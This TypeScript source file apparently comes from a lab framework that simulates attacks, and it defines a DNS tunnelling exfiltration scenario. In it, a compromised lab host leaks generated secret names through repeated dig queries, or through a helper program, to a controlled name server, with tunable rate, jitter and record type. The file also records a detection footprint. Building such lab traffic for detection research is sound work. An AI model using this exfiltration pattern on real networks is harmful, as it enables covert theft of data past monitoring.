import { join } from 'node:path';
import { pause } from '../pause.ts';
import { createRandom } from '../random.ts';
import type { Attack, Lab, TimeWindow } from '../scenario.ts';
import { beside, untilReady } from './beside.ts';
import {
  answeringMachine,
  askedMachine,
  type NameServerPlace,
  nameServerQuestion,
  questionFootprint,
} from './name-server.ts';
import { drawSecretName, type NameShape } from './programs/secret-name.ts';

/** Secrets that leave in the names of DNS questions, from one taken-over machine. */
export interface TxtExfiltration {
  readonly attacker: number;
  readonly place: NameServerPlace;
  readonly name: NameShape;
  readonly recordType: 'TXT' | 'A' | 'AAAA' | 'CNAME';
  /** dig: one process and one socket for each question. own: one program, one socket. fresh: one program, many sockets. */
  readonly sockets: 'dig' | 'own' | 'fresh';
  /** At most 10 for dig. */
  readonly questionsPerSecond: number;
  /** Share of the pause between two questions by which it strays, 0 to 1. */
  readonly jitter: number;
  /** What the name server says: nothing of that name, or a record of so many bytes (TXT) or one address. */
  readonly answer: 'nxdomain' | { readonly textBytes: number };
  readonly seed: number;
}

const PROGRAMS = join(import.meta.dirname, 'programs');

/** The attack, until its window is over. */
export function txtExfiltration(exfiltration: TxtExfiltration, window: TimeWindow): Attack {
  return {
    ...window,
    family: 'dns-tunnel',
    async play(lab, signal) {
      const server = answeringMachine(lab.hosts, exfiltration.place);
      const textBytes = exfiltration.answer === 'nxdomain' ? '' : String(exfiltration.answer.textBytes);
      const responder = [process.execPath, join(PROGRAMS, 'name-server-main.ts'), server.ip, textBytes];
      const helpers = [(until: AbortSignal) => lab.run(server, responder, until)];
      const attack = async (until: AbortSignal) => {
        await untilReady(lab, server, nameServerQuestion(server, exfiltration.name.zone), until);
        await (exfiltration.sockets === 'dig' ? digAgainAndAgain : askByProgram)(exfiltration, lab, until);
      };
      await beside(helpers, attack, signal);
    },
    footprint: questionFootprint(exfiltration.attacker, exfiltration.place),
  };
}

async function digAgainAndAgain(exfiltration: TxtExfiltration, lab: Lab, signal: AbortSignal): Promise<void> {
  const random = createRandom(exfiltration.seed);
  const server = `@${askedMachine(lab.hosts, exfiltration.place).ip}`;
  const periodMs = 1_000 / exfiltration.questionsPerSecond;
  for (let index = 0; !signal.aborted; index++) {
    const next = performance.now() + periodMs * (1 + exfiltration.jitter * random.between(-1, 1));
    const name = drawSecretName(random, exfiltration.name, index);
    const argv = ['dig', '+tries=1', '+time=2', server, exfiltration.recordType, name];
    await lab.run(lab.hosts.attackers[exfiltration.attacker], argv, signal);
    await pause(Math.max(0, next - performance.now()), signal);
  }
}

async function askByProgram(exfiltration: TxtExfiltration, lab: Lab, signal: AbortSignal): Promise<void> {
  const server = askedMachine(lab.hosts, exfiltration.place).ip;
  const argv = [process.execPath, join(PROGRAMS, 'ask-main.ts'), JSON.stringify({ ...exfiltration, server })];
  await lab.run(lab.hosts.attackers[exfiltration.attacker], argv, signal);
}
